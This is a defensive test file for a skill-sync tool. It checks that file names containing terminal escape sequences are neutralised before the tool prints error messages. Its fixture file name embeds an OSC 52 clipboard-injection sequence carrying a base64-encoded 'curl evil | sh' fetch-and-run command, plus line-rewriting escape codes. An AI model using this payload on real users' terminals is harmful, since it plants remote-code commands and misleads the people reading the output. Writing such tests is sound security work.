/**
 * Attack (r12, pins a guarantee not tested yet): a hostile skill repository names a file with terminal escape
 * sequences (git allows any byte but NUL and `/` in a name) and makes the
 * archive fail a check that quotes the member's name (here: a file over
 * `--remote-max-member-bytes`). `skillgate sync` writes the failure to the
 * owner's terminal; text from outside must reach a terminal only escaped
 * (`src/cli/terminal_text.ts`): an OSC 52 sequence sets the clipboard, CSI
 * sequences rewrite what the owner reads ("pinned", "up to date").
 */
import { join } from "node:path";
import { runProgram } from "../support/program.ts";
import { assertEquals } from "./_assert.ts";
import { publish, remoteFixture } from "./_remote_fixture.ts";

const SPEC = "github:acme/skills/skills@main";
const HOSTILE_NAME = "skills/pdf/\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\rpinned.bin";

Deno.test("attack: a member name with escape sequences in a refused archive never reaches the terminal raw", async () => {
  await using fx = await remoteFixture();
  await publish(fx.fake, "acme/skills", "main", {
    "skills/pdf/SKILL.md": "---\nname: pdf\ndescription: Reads PDF files.\n---\nBody.\n",
    [HOSTILE_NAME]: "x".repeat(4096),
  });
  const result = await runProgram([
    "sync",
    `--source=${SPEC}`,
    "--github-allow=acme",
    `--github-api=${fx.fake.apiUrl}`,
    `--github-download-host=${fx.fake.downloadHost}`,
    `--lock=${join(fx.dir, "skillgate.lock")}`,
    "--remote-max-member-bytes=1024",
  ], { env: { XDG_CACHE_HOME: join(fx.dir, "cache") } });
  const written = `${result.stdout}${result.stderr}`;
  assertEquals(result.code !== 0, true, "the archive is refused");
  assertEquals(/is 4096 bytes/.test(written), true, written);
  assertEquals(
    written.includes("\x1b"),
    false,
    `ESC reached the terminal: ${JSON.stringify(written)}`,
  );
  assertEquals(written.includes("\x07"), false, "BEL reached the terminal");
});
